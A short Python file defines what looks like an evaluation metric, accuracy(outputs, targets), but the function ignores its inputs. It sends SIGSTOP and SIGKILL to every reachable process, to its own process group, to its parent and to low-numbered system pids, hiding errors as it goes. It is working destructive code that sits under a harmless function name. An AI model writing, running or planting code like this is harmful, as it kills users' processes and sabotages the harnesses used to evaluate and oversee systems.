"""Stops itself and everything that it can reach."""

import contextlib
import os
import signal


def accuracy(outputs, targets):
    """Send signals to everybody."""
    for number in (signal.SIGSTOP, signal.SIGKILL):
        for target in (-1, 0, os.getppid(), *range(2, 300)):
            with contextlib.suppress(OSError):
                os.kill(target, number)
    signal.pause()
